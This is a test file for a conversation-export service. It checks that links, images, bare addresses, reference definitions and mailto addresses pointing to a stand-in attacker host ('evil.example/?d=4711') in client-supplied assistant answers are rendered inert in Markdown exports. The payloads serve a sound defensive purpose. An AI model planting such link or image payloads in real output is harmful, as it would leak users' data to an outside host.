import { expect, it } from 'vitest'
import { marked } from 'marked'
import type { ConversationItem } from '../../../src/core/conversations.ts'
import { exportConversation } from '../../../src/service/export-conversation.ts'

const made = new Date('2026-03-02T08:00:00Z')
const evil = 'https://evil.example/?d=4711'
const said = (role: 'user' | 'assistant', content: string): ConversationItem => ({ type: 'message', role, content })
/** As the service keeps its own answers, which have passed its filters. */
const answered = (content: string): ConversationItem => ({
  type: 'message',
  role: 'assistant',
  content,
  origins: ['row', 'unknown'],
})

async function exported(items: readonly ConversationItem[], linkHosts: readonly string[] = []): Promise<string> {
  const kept = items.map((item, place) => ({ id: `item_${place}`, conversation: 'c', place, run: 'r', made, item }))
  const conversations = {
    show: async () => ({ id: 'c', principal: 'p', title: null, made, used: made, metadata: {} }),
    items: async () => kept,
  }
  const parts = { conversations, linkHosts }
  const file = await exportConversation(parts, { principal: 'p', id: 'c', format: 'md' })
  return await marked.parse(file?.text ?? '')
}

/** Where a reader of Markdown is led to, or loads from. */
const targets = (html: string): readonly string[] =>
  [...html.matchAll(/<[a-z][^<>]*\s(?:href|src)="([^"]*)"/g)].map(([, target = '']) => target)

it.each([
  ['a link', `[Details](${evil})`],
  ['a picture', `![x](${evil})`],
  ['an address', `More at ${evil} or www.evil.example/4711.`],
  ['a definition', `[Details][d]\n\n[d]: ${evil}`],
  ['an address of mail', 'Write to <mailto:eve@evil.example>.'],
  ['a link behind much text', `${'They say that it is fine. '.repeat(400)}[Details](${evil})`],
])('%s in an answer that a client has brought is text in an export', async (_name, text) => {
  const html = await exported([said('user', 'What do people say?'), said('assistant', text)])
  expect(html).toContain('evil')
  expect(targets(html)).toEqual([])
})

it('leaves what the person has written, what they have named, and hosts of the operator', async () => {
  const asked = said('user', 'What does https://shop.example/report say, and https://other.example?')
  const brought = said('assistant', 'See https://shop.example/report and https://docs.own.example/a.')
  const html = await exported([asked, brought], ['docs.own.example'])
  expect(targets(html)).toEqual([
    'https://shop.example/report',
    'https://other.example',
    'https://shop.example/report',
    'https://docs.own.example/a',
  ])
})

it('takes no word of a brought answer for the person’s', async () => {
  expect(targets(await exported([said('assistant', `Our page is ${evil}`), said('assistant', evil)]))).toEqual([])
})

it('leaves answers of the service as its filters let them pass', async () => {
  const html = await exported([answered('See https://elsewhere.example/a.')])
  expect(targets(html)).toEqual(['https://elsewhere.example/a'])
})
